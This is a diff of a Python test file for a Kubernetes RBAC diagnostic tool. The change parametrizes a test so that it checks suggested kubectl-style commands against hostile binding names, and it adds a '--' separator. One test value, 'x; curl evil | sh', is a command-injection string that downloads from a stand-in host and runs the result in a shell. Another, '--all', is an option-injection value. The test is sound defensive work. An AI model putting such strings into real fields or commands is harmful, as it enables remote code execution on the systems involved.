@@ -238,10 +238,10 @@ def test_permissions_are_those_of_the_account_that_is_named() -> None:
     assert {body["spec"]["user"] for body in bodies} == {"system:serviceaccount:ns:tpm"}
 
 
-def test_names_of_a_workload_cluster_are_no_commands_of_a_shell() -> None:
+@pytest.mark.parametrize("name", ["x; curl evil | sh", "--all"])
+def test_names_of_a_workload_cluster_are_no_commands_of_a_shell(name: str) -> None:
     """The name of a ClusterRoleBinding may be any text without a slash."""
     role = "system:certificates.k8s.io:certificatesigningrequests:nodeclient"
-    name = "x; curl evil | sh"
     binding = {
         "metadata": {"name": name},
         "roleRef": {"kind": "ClusterRole", "name": role},
@@ -249,7 +249,7 @@ def test_names_of_a_workload_cluster_are_no_commands_of_a_shell() -> None:
     }
     finding = workload_checks._check_automatic_approval([binding], CLUSTER)
     assert finding.result is FindingResult.PROBLEM
-    assert shlex.split(finding.next_step)[3] == name
+    assert shlex.split(finding.next_step)[3:5] == ["--", name]
 
 
 def test_doctor_does_not_advise_to_delete_bindings_that_nodes_need() -> None:
